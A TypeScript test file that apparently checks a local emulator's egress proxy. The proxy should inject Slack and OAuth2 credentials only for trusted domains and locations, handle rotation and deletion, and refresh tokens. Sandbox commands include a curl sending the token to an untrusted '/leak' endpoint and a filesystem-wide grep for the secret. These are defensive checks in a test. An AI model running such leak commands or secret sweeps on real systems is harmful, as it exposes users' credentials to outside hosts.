// Credentials the documentation uses, end to end with a Docker sandbox and the real egress proxy:
// an `environment_variable` credential behind an `env` variable (the sandbox holds a placeholder; the
// proxy puts the secret in its place, only for the trusted domain and only where the credential says)
// and an `oauth2` credential in an allowlist entry (the proxy gets the access token from a fake token
// endpoint with the refresh grant, caches it, and refreshes it once the key's clock passes its expiry).
// Every server is local, reached through EMULATOR_EGRESS_HOST_MAP.
// covers: CreateAgentInteraction.environment.env, CreateAgentInteraction.environment.network.allowlist.credential
// covers: CreateCredential.value, CreateCredential.injection_location, CreateCredential.trusted_domains
// covers: UpdateCredential.value, UpdateCredential.injection_location, UpdateCredential.trusted_domains

import assert from "node:assert/strict";
import fs from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";
import { after, before, describe, it } from "node:test";
import { GoogleGenAI } from "@google/genai";
import { startEmulatorProcess, type EmulatorProcess } from "../support/emulator-process.js";
import { createTestPki, startEchoServer, type EchoServer } from "../support/proxy-fixtures.js";

const API_KEY = "credential-injection-key";
const AGENT = "antigravity-preview-05-2026";
const SECRET = "xoxb-the-real-secret-4242";

let emulator: EmulatorProcess;
let slack: EchoServer;
let elsewhere: EchoServer;
let jira: EchoServer;
let tokenServer: http.Server;
const tokenCalls: URLSearchParams[] = [];
let client: GoogleGenAI;
let caDir: string;

before(async () => {
  const pki = createTestPki("credential-injection");
  slack = await startEchoServer("slack", pki.issue(["api.slack.test"]));
  jira = await startEchoServer("jira", pki.issue(["jira.test"]));
  elsewhere = await startEchoServer("elsewhere");
  tokenServer = http.createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on("data", (chunk: Buffer) => chunks.push(chunk));
    request.on("end", () => {
      tokenCalls.push(new URLSearchParams(Buffer.concat(chunks).toString()));
      response.writeHead(200, { "content-type": "application/json" });
      response.end(JSON.stringify({ access_token: `access-${tokenCalls.length}`, token_type: "Bearer", expires_in: 120 }));
    });
  });
  await new Promise<void>((resolve) => tokenServer.listen(0, "127.0.0.1", resolve));
  caDir = fs.mkdtempSync(path.join(os.tmpdir(), "emu-credential-ca-"));
  const caFile = path.join(caDir, "upstream-ca.pem");
  fs.writeFileSync(caFile, pki.caPem);
  const local = (port: number) => `127.0.0.1:${port}`;
  emulator = await startEmulatorProcess({
    EMULATOR_EGRESS_HOST_MAP: [
      `api.slack.test=${local(slack.port)}`,
      `elsewhere.test=${local(elsewhere.port)}`,
      `jira.test=${local(jira.port)}`,
      `auth.test=${local((tokenServer.address() as AddressInfo).port)}`,
    ].join(","),
    EMULATOR_EGRESS_CA_FILE: caFile,
  });
  client = new GoogleGenAI({ apiKey: API_KEY, httpOptions: { baseUrl: emulator.url } });
});

after(async () => {
  await emulator?.destroy();
  await Promise.all([slack, jira, elsewhere].map((server) => server?.close()));
  tokenServer?.closeAllConnections();
  tokenServer?.close();
  fs.rmSync(caDir, { recursive: true, force: true });
});

function codeResult(steps: unknown): { result: string; is_error: boolean } {
  return (steps as Array<Record<string, any>>).find((step) => step.type === "code_execution_result") as {
    result: string;
    is_error: boolean;
  };
}

async function emulatorCall(method: string, route: string, body?: unknown): Promise<any> {
  const response = await fetch(`${emulator.url}${route}`, {
    method,
    headers: { "x-goog-api-key": API_KEY, "content-type": "application/json" },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  assert.equal(response.status, 200, await response.clone().text());
  return response.json();
}

async function run(command: string, environment: unknown): Promise<{ output: string; environmentId: string; echoed: unknown }> {
  const interaction = await client.interactions.create({
    agent: AGENT,
    input: `Run \`${command}\` using code_execution.`,
    environment,
  } as never);
  const result = codeResult(interaction.steps);
  assert.equal(result.is_error, false, result.result);
  return {
    output: result.result,
    environmentId: interaction.environment_id!,
    echoed: (interaction as { environment?: unknown }).environment,
  };
}

describe("an environment_variable credential behind an env variable", () => {
  it("keeps the secret out of the sandbox and puts it on the wire only for the trusted domain, only where configured", async () => {
    await client.credentials.create({
      id: "slack-bot-token",
      type: "environment_variable",
      value: SECRET,
      trusted_domains: ["api.slack.test"],
      injection_location: ["header", "query"],
    } as never);
    const command = [
      'echo "held=$SLACK_BOT_TOKEN"',
      `curl -sS -o /dev/null -H "Authorization: Bearer $SLACK_BOT_TOKEN" -d "token=$SLACK_BOT_TOKEN" "https://api.slack.test/chat?token=$SLACK_BOT_TOKEN"`,
      `curl -sS -o /dev/null -H "Authorization: Bearer $SLACK_BOT_TOKEN" "http://elsewhere.test/leak?token=$SLACK_BOT_TOKEN"`,
      `grep -rl ${SECRET} / --exclude-dir=proc --exclude-dir=sys 2>/dev/null; echo searched`,
    ].join("; ");
    const { output, environmentId, echoed } = await run(command, {
      type: "remote",
      env: { NODE_ENV: "production", SLACK_BOT_TOKEN: { credential: "slack-bot-token" } },
    });
    const placeholder = /held=(\S+)/.exec(output)?.[1] ?? "";
    assert.match(placeholder, /^emulator-credential-placeholder-[0-9a-f]{48}$/, output);
    assert.doesNotMatch(output, new RegExp(SECRET), "nothing in the sandbox holds the secret");
    assert.match(output, /searched\n$/);
    assert.deepEqual((echoed as { env?: unknown }).env, { NODE_ENV: "[redacted]", SLACK_BOT_TOKEN: { credential: "slack-bot-token" } });

    const [trusted] = slack.requests.filter((request) => request.url.startsWith("/chat"));
    assert.ok(trusted, "the trusted domain was reached");
    assert.equal(trusted.headers.authorization, `Bearer ${SECRET}`, "header: substituted");
    assert.equal(new URL(trusted.url, "https://x").searchParams.get("token"), SECRET, "query: substituted");
    assert.equal(new URLSearchParams(trusted.body).get("token"), placeholder, "body: not a configured location");

    const [untrusted] = elsewhere.requests.filter((request) => request.url.startsWith("/leak"));
    assert.equal(untrusted?.headers.authorization, `Bearer ${placeholder}`);
    assert.equal(untrusted?.url, `/leak?token=${placeholder}`);

    const log = (await emulatorCall("GET", `/emulator/environments/${environmentId}/egress`)).entries as Array<Record<string, any>>;
    const chat = log.find((entry) => entry.host === "api.slack.test" && entry.method === "POST");
    assert.deepEqual(chat?.substituted, [
      { name: "SLACK_BOT_TOKEN", location: "header" },
      { name: "SLACK_BOT_TOKEN", location: "query" },
    ]);
    assert.doesNotMatch(JSON.stringify(log), new RegExp(SECRET));

    // Updated: the next connection uses the new value, locations and domains.
    const ROTATED = "xoxb-the-rotated-secret-77";
    await client.credentials.update("slack-bot-token", {
      type: "environment_variable",
      value: ROTATED,
      injection_location: "body",
      trusted_domains: ["api.slack.test", "elsewhere.test"],
    } as never);
    await run(
      [
        `curl -sS -o /dev/null -H "Authorization: Bearer $SLACK_BOT_TOKEN" -d "token=$SLACK_BOT_TOKEN" https://api.slack.test/rotated`,
        `curl -sS -o /dev/null -d "token=$SLACK_BOT_TOKEN" http://elsewhere.test/now-trusted`,
      ].join("; "),
      environmentId,
    );
    const rotated = slack.requests.find((request) => request.url === "/rotated");
    assert.equal(rotated?.headers.authorization, `Bearer ${placeholder}`, "header: no longer a configured location");
    assert.equal(new URLSearchParams(rotated?.body ?? "").get("token"), ROTATED, "body: the new value");
    const nowTrusted = elsewhere.requests.find((request) => request.url === "/now-trusted");
    assert.equal(new URLSearchParams(nowTrusted?.body ?? "").get("token"), ROTATED, "a domain added to trusted_domains");

    // Deleted: fail closed, the placeholder goes out as it is. Nothing is left to do for that domain, so
    // its HTTPS is a byte tunnel again (the sandbox meets the test server's own certificate: -k).
    await client.credentials.delete("slack-bot-token");
    await run(`curl -sS -k -o /dev/null -H "Authorization: Bearer $SLACK_BOT_TOKEN" https://api.slack.test/after-delete`, environmentId);
    const afterDelete = slack.requests.find((request) => request.url === "/after-delete");
    assert.equal(afterDelete?.headers.authorization, `Bearer ${placeholder}`);
  });

  it("refuses an unknown credential with a 400 naming the variable", async () => {
    const response = await fetch(`${emulator.url}/v1beta/interactions`, {
      method: "POST",
      headers: { "x-goog-api-key": API_KEY, "content-type": "application/json" },
      body: JSON.stringify({ agent: AGENT, input: "hello", environment: { type: "remote", env: { TOKEN: { credential: "missing" } } } }),
    });
    assert.equal(response.status, 400);
    assert.match(
      ((await response.json()) as { error: { message: string } }).error.message,
      /environment\.env\.TOKEN: credential "missing" not found/,
    );
  });
});

describe("an oauth2 credential in an allowlist entry", () => {
  after(() => emulatorCall("POST", "/emulator/clock", { reset: true }));

  it("refreshes a token at the token endpoint, injects it, reuses it, and refreshes it once the key's clock passes its expiry", async () => {
    await client.credentials.create({
      id: "jira-oauth",
      type: "oauth2",
      client_id: "my-client-id",
      client_secret: "my-client-secret",
      token_url: "http://auth.test/oauth/token",
      refresh_token: "rt_xxxxxxxxxxxxxxxxxxxx",
      scopes: ["read:jira-work", "write:jira-work"],
    } as never);
    const twice = "curl -sS -o /dev/null https://jira.test/one; curl -sS -o /dev/null https://jira.test/two; echo done";
    const { environmentId } = await run(twice, {
      type: "remote",
      network: { allowlist: [{ domain: "jira.test", credential: "jira-oauth" }] },
    });
    assert.equal(tokenCalls.length, 1, "one refresh for both requests");
    assert.deepEqual(Object.fromEntries(tokenCalls[0]!), {
      grant_type: "refresh_token",
      refresh_token: "rt_xxxxxxxxxxxxxxxxxxxx",
      client_id: "my-client-id",
      client_secret: "my-client-secret",
      scope: "read:jira-work write:jira-work",
    });
    assert.deepEqual(
      jira.requests.map((request) => [request.url, request.headers.authorization]),
      [
        ["/one", "Bearer access-1"],
        ["/two", "Bearer access-1"],
      ],
    );

    await emulatorCall("POST", "/emulator/clock", { advance_seconds: 90 });
    await run("curl -sS -o /dev/null https://jira.test/three; echo done", environmentId);
    assert.equal(tokenCalls.length, 2, "expired on the key's clock: refreshed");
    assert.equal(jira.requests.at(-1)?.headers.authorization, "Bearer access-2");
  });
});
